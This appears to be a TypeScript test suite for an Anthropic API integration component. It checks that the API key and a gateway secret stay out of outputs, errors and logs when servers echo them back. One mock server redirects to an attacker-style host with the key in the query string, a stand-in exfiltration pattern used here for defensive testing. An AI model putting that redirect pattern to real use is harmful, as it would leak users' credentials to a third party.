/** The API key appears nowhere but in the request header, whatever a server does with it. */
import { inspect } from "node:util";
import type { Connection } from "@prismatic-io/spectral";
import { describe, expect, test } from "vitest";
import { noProgress } from "../src/claude/agent/agent";
import { seal } from "../src/claude/agent/state";
import { createClient } from "../src/client/client";
import { apiKey, component, connectionTo, gatewayTo, Logs, run } from "./support/component";
import { eventStream, type Received, type Reply, startServer, textEvents } from "./support/server";

/** A state that the connection opens, and that has nothing to wait for. */
const stateFor = (connection: Connection): string => {
  const request = { model: "claude-sonnet-5-5", max_tokens: 10 };
  const progress = noProgress([{ role: "user", content: "Hello" }], []);
  const state = { request, betas: [], flows: [], limits: {}, progress, withToken: [] };
  try {
    const { account } = createClient({ logger: new Logs().logger as never }, connection);
    return seal(state, `${account}.instanceId`);
  } catch {
    return "no state for a connection that cannot be used";
  }
};

const inputs: Record<string, Record<string, unknown>> = {
  chat: { initialMessage: "Hello", temperature: "0.5", requestOptions: { maxRetries: "1" } },
  extractData: {
    text: "Hello",
    fields: [{ name: "a" }],
    requestOptions: { maxRetries: "0" },
  },
  classifyAndBranch: {
    text: "Hello",
    branches: [{ key: "a", value: "b" }],
    requestOptions: { maxRetries: "0" },
  },
  runAgent: { task: "Hello", requestOptions: { maxRetries: "0" } },
  resumeAgent: { state: stateFor, requestOptions: { maxRetries: "0" } },
  countTokens: { message: "Hello", requestOptions: { maxRetries: "0" } },
  createChatCompletion: {
    messages: [{ role: "user", content: "Hello" }],
    requestOptions: { maxRetries: "0" },
  },
  createBatch: { items: ["Hello"], requestOptions: { maxRetries: "0" } },
  getBatch: { batchId: "a", requestOptions: { maxRetries: "0" } },
  getBatchResults: { batchId: "a", requestOptions: { maxRetries: "0" } },
  listBatches: { fetchAll: true, requestOptions: { maxRetries: "0" } },
  cancelBatch: { batchId: "a", requestOptions: { maxRetries: "0" } },
  deleteBatch: { batchId: "a", requestOptions: { maxRetries: "0" } },
  uploadFile: { file: "Hello", fileName: "a.txt", requestOptions: { maxRetries: "0" } },
  getFile: { fileId: "a", requestOptions: { maxRetries: "0" } },
  listFiles: { fetchAll: true, requestOptions: { maxRetries: "0" } },
  downloadFile: { fileId: "a", requestOptions: { maxRetries: "0" } },
  deleteFile: { fileId: "a", requestOptions: { maxRetries: "0" } },
  getModel: { requestOptions: { maxRetries: "0" } },
  listModels: { fetchAll: true, requestOptions: { maxRetries: "0" } },
  rawRequest: { method: "POST", data: "{}", maxRetries: "1" },
};

const json = { "content-type": "application/json", "retry-after-ms": "1" };

/** The inputs of an action, those that depend on the connection made for it. */
const inputsFor = (key: string, connection: Connection) =>
  Object.fromEntries(
    Object.entries(inputs[key] ?? {}).map(([name, value]) => [
      name,
      typeof value === "function" ? value(connection) : value,
    ]),
  );

/** What a server may do with the headers it gets. All of them are echoed: a gateway's debug mode does that. */
const servers: Record<string, (request: Received) => Reply> = {
  "answers well": () => ({ body: { data: [], has_more: false, content: [], input_tokens: 1 } }),
  "echoes the headers in its answer": ({ headers }) => ({
    headers: json,
    body: {
      content: [{ type: "text", text: JSON.stringify(headers) }],
      data: [{ id: headers["x-api-key"] }],
      headers,
    },
  }),
  "echoes the headers in a stream": ({ headers }) => ({
    headers: { "content-type": "text/event-stream" },
    body: eventStream(textEvents("Hi.", { model: String(headers["x-api-key"]) as never })),
  }),
  ...Object.fromEntries(
    [400, 401, 403, 404, 429, 500, 529].map((status) => [
      `echoes the headers in a ${status}`,
      ({ headers }: Received) => ({
        status,
        headers: json,
        body: { type: "error", error: { type: "x", message: `Got ${JSON.stringify(headers)}` } },
      }),
    ]),
  ),
  "echoes the headers in HTML": ({ headers }) => ({
    status: 502,
    body: `<html>${JSON.stringify(headers)}`,
  }),
  "echoes the headers in an answer that is no JSON": ({ headers }) => ({
    body: `Got ${headers["x-api-key"]}`,
  }),
  "puts the key into a redirect": ({ headers }) => ({
    status: 302,
    headers: { location: `https://evil.example/?key=${headers["x-api-key"]}` },
  }),
  "puts the key into headers": ({ headers }) => ({
    status: 400,
    headers: { "request-id": String(headers["x-api-key"]), "x-echo": String(headers["x-api-key"]) },
  }),
  "breaks off": () => (_, response) => response.destroy(),
};

/** Everything that can be seen of a value: own properties, hidden ones too, stacks and JSON. */
const everything = (value: unknown): string =>
  [
    inspect(value, { depth: 20, showHidden: true, getters: true, maxStringLength: null }),
    JSON.stringify(value),
    value instanceof Error ? `${value.stack} ${value.message} ${String(value.cause)}` : "",
  ].join("\n");

const extraSecret = "pk-secret-0123456789";

const connections = {
  anthropic: connectionTo,
  gateway: (url: string) =>
    gatewayTo(url, {
      authentication: "x-api-key",
      headers: `x-portkey-api-key: ${extraSecret}\nx-portkey-provider: anthropic`,
    }),
};

describe.each(
  Object.keys(inputs).flatMap((key) =>
    Object.entries(connections).map((via) => [key, ...via] as const),
  ),
)("%s by the connection %s", (key, via, connect) => {
  const secrets = via === "gateway" ? [apiKey, extraSecret] : [apiKey];

  test.each(Object.entries(servers))("to a server that %s", async (_, reply) => {
    const server = await startServer((request, response) => {
      const answer = reply(request);
      if (typeof answer === "function") return answer(request, response);
      response.writeHead(answer.status ?? 200, { ...json, ...answer.headers });
      response.end(
        typeof answer.body === "string" ? answer.body : JSON.stringify(answer.body ?? {}),
      );
    });
    const logs = new Logs();
    const connection = connect(server.url);
    const outcome = await run(
      key,
      server,
      { ...inputsFor(key, connection), connection },
      { logger: logs.logger, globalDebug: true },
    ).catch((error: unknown) => error);
    expect(server.requests[0]?.headers["x-api-key"]).toBe(apiKey);
    expect(logs.lines.length).toBeGreaterThan(0);
    for (const secret of secrets) {
      expect(everything(outcome)).not.toContain(secret);
      expect(logs.lines.join("\n")).not.toContain(secret);
    }
  });

  test("to nobody", async () => {
    const logs = new Logs();
    const connection = connect("http://127.0.0.1:1");
    const outcome = await run(
      key,
      { url: "" },
      { ...inputsFor(key, connection), connection },
      { logger: logs.logger, globalDebug: true },
    ).catch((error: unknown) => error);
    expect(outcome).toBeInstanceOf(Error);
    for (const secret of secrets) {
      expect(everything(outcome) + logs.lines.join("\n")).not.toContain(secret);
    }
  });

  test("with a connection that cannot be used", async () => {
    const connection = connect("not a url");
    const outcome = await run(
      key,
      { url: "" },
      { ...inputsFor(key, connection), connection },
    ).catch((error: unknown) => error);
    expect(outcome).toBeInstanceOf(Error);
    for (const secret of secrets) expect(everything(outcome)).not.toContain(secret);
  });
});

const chunks = (key: string) => [key.slice(0, 9), key.slice(9)];

describe("a key in disguise", () => {
  const call = async (reply: Reply, action: string, input: object, fields: object = {}) => {
    const server = await startServer(reply);
    const connection = connectionTo(server.url, fields as Record<string, unknown>);
    return run(action, server, { ...input, connection }).catch((error: unknown) => error);
  };

  test("split over two pieces of a stream", async () => {
    const [start, block, , ...rest] = textEvents("");
    const deltas = chunks(apiKey).map((text) => ({
      type: "content_block_delta",
      index: 0,
      delta: { type: "text_delta", text },
    }));
    const body = eventStream(
      [start, block, ...deltas, ...rest].filter((event) => event !== undefined),
    );
    const result = (await call(
      { headers: { "content-type": "text/event-stream" }, body },
      "chat",
      inputs.chat ?? {},
    )) as { text: string };
    expect(result.text).toBe("[redacted]");
    expect(everything(result)).not.toContain(apiKey);
  });

  test("written with JSON's escapes, in an answer, a field name and an error", async () => {
    const escaped = apiKey.replaceAll("-", "\\u002d");
    const get = { method: "GET" };
    const body = `{"error": {"message": "${escaped}", "type": "${escaped}"}, "${escaped}": ["${escaped}"]}`;
    expect(everything(await call({ body, headers: json }, "rawRequest", get))).not.toContain(
      apiKey,
    );
    expect(everything(await call({ status: 400, body }, "rawRequest", get))).not.toContain(apiKey);
    const slashed = { apiKey: "gw/secret/key" };
    const echo = { body: '{"echo": "gw\\/secret\\/key"}', headers: json };
    expect(everything(await call(echo, "rawRequest", get, slashed))).not.toContain(slashed.apiKey);
  });

  test("in a file, which keeps its length", async () => {
    const file = Buffer.concat([Buffer.of(0, 255), Buffer.from(apiKey), Buffer.of(255)]);
    const result = (await call({ body: file }, "rawRequest", {
      method: "GET",
      responseType: "binary",
    })) as Buffer;
    expect(result.includes(apiKey)).toBe(false);
    expect([result.length, result[0], result.at(-1)]).toEqual([file.length, 0, 255]);
  });

  test("too short to be told from words is left alone: it would garble answers", async () => {
    const streamedText = {
      headers: { "content-type": "text/event-stream" },
      body: eventStream(textEvents("This is a test of text.")),
    };
    const result = (await call(streamedText, "chat", inputs.chat ?? {}, { apiKey: "test" })) as {
      text: string;
    };
    expect(result.text).toBe("This is a test of text.");
  });
});

test("every action is in this test", () => {
  expect(Object.keys(inputs)).toEqual(Object.keys(component.actions));
});
